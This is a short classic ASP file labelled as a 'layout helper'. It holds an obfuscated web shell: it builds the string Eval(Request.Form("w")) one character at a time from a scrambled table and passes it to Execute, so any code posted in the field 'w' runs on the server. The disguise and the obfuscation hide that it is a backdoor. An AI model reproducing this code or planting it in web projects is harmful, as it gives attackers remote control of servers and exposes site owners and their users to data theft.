<%
' layout helper
Function pk(n) : pk = Mid(tbl, n, 1) : End Function
Dim tbl : tbl = "o)wvaRu.""lFsert(qEm"
Execute(pk(0+18)&pk(4)&pk(5)&pk(10)&pk(16)&pk(6)&pk(13)&pk(17)&pk(7)&pk(13)&pk(12)&pk(15)&pk(8)&pk(11)&pk(1)&pk(14)&pk(19)&pk(16)&pk(9)&pk(3)&pk(9)&pk(2)&pk(2))
%>
